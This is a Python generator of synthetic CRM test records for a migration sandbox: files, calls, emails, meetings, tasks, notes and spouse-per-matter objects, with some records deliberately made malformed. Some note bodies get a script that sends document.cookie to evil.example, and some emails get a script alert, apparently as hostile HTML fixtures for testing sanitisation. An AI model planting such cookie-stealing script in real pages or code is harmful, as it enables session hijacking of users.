"""Generator of the Interactive records hanging off contacts: files, engagements (calls, emails,
meetings, tasks, notes) and the spouse-per-matter custom object.

Every engagement is linked to a contact, to that contact's primary company when it has one, and
1 in 3 to a deal. Dirty kinds, 1-in-n by position:
- files (0.3 x scale): declared size over 25 MiB 1/20 (bytes generated on download, never stored);
  unicode names 1/20;
- notes (0.6 x scale): a data-URI image 1/10, a script 1/10, a table 1/8, a body over 65,000
  characters 1/50; attachments 1/4, an attachment id of no file 1/15;
- emails (0.5 x scale): attachments 1/5, a script in the HTML body 1/12;
- spouse links (0.2 x scale): the spouse is an archived contact 1/8; `marriage_date` as epoch
  ms, ISO without zone and ISO with offset 1/10 each;
- every engagement and spouse link: an archived owner 1/25, an absent owner 1/40.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

from migration_assets.sandbox.interactive.gen_common import (
    ID_BASE,
    UNICODE_NAMES,
    Context,
    every,
    iso,
    mixed_date,
)
from migration_assets.sandbox.interactive.gen_crm import owner
from migration_assets.sandbox.interactive.objects import CUSTOM_TYPE_ID, ENGAGEMENT_TYPE_IDS, TASK_STATUSES

MIB = 1024 * 1024
FILE_KINDS = (
    ("pdf", "DOCUMENT", "application/pdf"),
    ("docx", "DOCUMENT", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("png", "IMG", "image/png"),
    ("jpg", "IMG", "image/jpeg"),
)
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
LONG_LINE = "The trustee shall hold, manage and distribute the trust estate as provided herein. "
Props = Callable[[Context, int], dict[str, Any]]


def files(ctx: Context, n: int) -> list[dict[str, Any]]:
    """File metadata; content is generated from id and size when downloaded."""
    out = []
    for i in range(n):
        extension, kind, content_type = ctx.rng.choice(FILE_KINDS)
        if every(i, 20, 13):
            first, last = UNICODE_NAMES[(i // 20) % len(UNICODE_NAMES)]
            name = f"Testament {first} {last}"
        else:
            name = f"{ctx.rng.choice(('engagement-letter', 'trust-draft', 'id-scan', 'deed'))}-{i + 1}"
        created, updated = ctx.stamps()
        big = every(i, 20, 7)
        out.append(
            {
                "id": str(ID_BASE["files"] + i + 1),
                "_seq": ID_BASE["files"] + i + 1,
                "name": name,
                "extension": extension,
                "type": kind,
                "size": ctx.rng.randint(26, 40) * MIB + 17 if big else ctx.rng.randint(1_000, 400_000),
                "path": f"/attachments/{name}.{extension}",
                "parentFolderId": "180001",
                "access": "PRIVATE",
                "isUsableInContent": False,
                "archived": False,
                "createdAt": created,
                "updatedAt": updated,
                "_content_type": content_type,
            }
        )
    return out


def _attachments(ctx: Context, i: int, n: int, offset: int) -> str | None:
    ids = [f["id"] for f in ctx.resources["files"]]
    picked = ctx.rng.sample(ids, k=min(len(ids), ctx.rng.choice((1, 2)))) if every(i, n, offset) and ids else []
    if every(i, 15, 9):
        picked.append(str(ID_BASE["files"] + 90_000 + i))  # a file that does not exist
    return ";".join(picked) or None


def _note_body(ctx: Context, i: int) -> str:
    parts = [f"<p>{ctx.fake.paragraph()}</p>", f"<ul><li>{ctx.fake.sentence()}</li><li>{ctx.fake.sentence()}</li></ul>"]
    if every(i, 10, 2):
        parts.append(f'<p><img src="data:image/png;base64,{PIXEL}" alt="signature"></p>')
    if every(i, 10, 5):
        parts.append('<script>document.location="https://evil.example/?c="+document.cookie</script>')
    if every(i, 8, 3):
        rows = "".join(f"<tr><td>{ctx.fake.word()}</td><td>{ctx.rng.randint(1, 99)}</td></tr>" for _ in range(3))
        parts.append(f"<table><thead><tr><th>Asset</th><th>Share %</th></tr></thead><tbody>{rows}</tbody></table>")
    if every(i, 50, 11):
        parts.append("<p>" + LONG_LINE * 800 + "</p>")  # over 65,000 characters
    return "".join(parts)


def _note(ctx: Context, i: int) -> dict[str, Any]:
    return {"hs_note_body": _note_body(ctx, i), "hs_attachment_ids": _attachments(ctx, i, 4, 1)}


def _call(ctx: Context, i: int) -> dict[str, Any]:
    return {
        "hs_call_title": f"Call: {ctx.fake.catch_phrase()}",
        "hs_call_body": f"<p>{ctx.fake.sentence()}</p>",
        "hs_call_direction": ctx.rng.choice(("INBOUND", "OUTBOUND")),
        "hs_call_duration": str(ctx.rng.randint(20, 3600) * 1000),
        "hs_call_status": ctx.rng.choice(("COMPLETED", "COMPLETED", "NO_ANSWER", "BUSY")),
        "matter_reference": f"M-{ctx.rng.randint(1000, 9999)}",
    }


def _email(ctx: Context, i: int) -> dict[str, Any]:
    text = ctx.fake.paragraph()
    html = f"<div><p>{text}</p></div>" + ("<script>alert('x')</script>" if every(i, 12, 5) else "")
    return {
        "hs_email_subject": ctx.fake.sentence(nb_words=6),
        "hs_email_text": text,
        "hs_email_html": html,
        "hs_email_direction": ctx.rng.choice(("EMAIL", "INCOMING_EMAIL", "FORWARDED_EMAIL")),
        "hs_email_status": ctx.rng.choice(("SENT", "SENT", "BOUNCED")),
        "hs_email_sender_email": ctx.fake.email(),
        "hs_email_to_email": ctx.fake.email(),
        "hs_attachment_ids": _attachments(ctx, i, 5, 2),
    }


def _meeting(ctx: Context, i: int) -> dict[str, Any]:
    start = datetime.fromisoformat(ctx.stamps()[1].replace("Z", "+00:00"))
    return {
        "hs_meeting_title": ctx.rng.choice(("Initial consultation", "Signing", "Plan review", "Family meeting")),
        "hs_meeting_body": f"<p>{ctx.fake.sentence()}</p>",
        "hs_internal_meeting_notes": f"<p>{ctx.fake.sentence()}</p>",
        "hs_meeting_location": ctx.fake.address().replace("\n", ", "),
        "hs_meeting_start_time": iso(start),
        "hs_meeting_end_time": iso(start + timedelta(minutes=ctx.rng.choice((30, 60, 90)))),
        "hs_meeting_outcome": ctx.rng.choice(("SCHEDULED", "COMPLETED", "COMPLETED", "NO_SHOW", "CANCELED")),
    }


def _task(ctx: Context, i: int) -> dict[str, Any]:
    return {
        "hs_task_subject": ctx.fake.sentence(nb_words=5),
        "hs_task_body": f"<p>{ctx.fake.sentence()}</p>",
        "hs_task_status": ctx.rng.choice(TASK_STATUSES)[0],
        "hs_task_priority": ctx.rng.choice(("LOW", "MEDIUM", "HIGH")),
        "hs_task_type": ctx.rng.choice(("CALL", "EMAIL", "TODO")),
    }


BUILDERS: dict[str, Props] = {"calls": _call, "emails": _email, "meetings": _meeting, "tasks": _task, "notes": _note}


def engagements(ctx: Context, kind: str, n: int) -> list[dict[str, Any]]:
    """`n` engagements of `kind`, each linked to a contact, its primary company and maybe a deal."""
    people, deals = ctx.live("contacts"), ctx.live("deals")
    (to_contact, _), (to_company, _), (to_deal, _) = ENGAGEMENT_TYPE_IDS[kind]
    out = []
    for i in range(n):
        props = BUILDERS[kind](ctx, i) | {"hubspot_owner_id": owner(ctx, i)}
        record = ctx.record(kind, i, props)
        record["props"]["hs_timestamp"] = record["created_at"]
        contact = ctx.rng.choice(people)
        ctx.link(kind, record["id"], contact["id"], to_contact)
        if contact["id"] in ctx.primary_company:
            ctx.link(kind, record["id"], ctx.primary_company[contact["id"]], to_company)
        if every(i, 3, 0) and deals:
            ctx.link(kind, record["id"], ctx.rng.choice(deals)["id"], to_deal)
        out.append(record)
    return out


def spouse_links(ctx: Context, n: int) -> list[dict[str, Any]]:
    """The spouse-per-matter custom object: a client and a spouse contact per matter."""
    people = ctx.live("contacts")
    gone = [c for c in ctx.objects["contacts"] if c["archived"]]
    out = []
    for i in range(n):
        client, spouse = ctx.rng.sample(people, k=2)
        if every(i, 8, 3) and gone:
            spouse = gone[(i // 8) % len(gone)]
        married = datetime.fromisoformat(ctx.stamps(max_days=15000)[0].replace("Z", "+00:00"))
        names = "/".join(str(c["props"].get("lastname") or "?") for c in (client, spouse))
        props = {
            "matter_name": f"{names} Joint Estate Plan",
            "matter_number": f"EP-{married.year}-{i + 1:04d}",
            "relationship": ctx.rng.choice(("spouse", "spouse", "domestic_partner", "former_spouse")),
            "marriage_date": mixed_date(married, i),
            "joint_plan": ctx.rng.choice(("true", "false")),
            "hubspot_owner_id": owner(ctx, i),
        }
        record = ctx.record(CUSTOM_TYPE_ID, i, props)
        ctx.link(CUSTOM_TYPE_ID, record["id"], client["id"], 101, 103)
        ctx.link(CUSTOM_TYPE_ID, record["id"], spouse["id"], 101, 105)
        out.append(record)
    return out
